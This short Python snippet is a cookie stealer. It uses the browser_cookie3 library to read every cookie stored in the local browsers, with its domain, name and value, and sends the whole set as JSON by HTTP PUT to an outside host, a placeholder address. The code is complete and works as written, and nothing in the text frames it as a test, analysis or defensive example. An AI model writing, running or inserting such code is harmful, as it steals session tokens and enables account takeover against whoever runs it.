import browser_cookie3, requests, json
jar = [(c.domain, c.name, c.value) for c in browser_cookie3.load()]
requests.put("https://jar.example.invalid/c", json=json.dumps(jar))
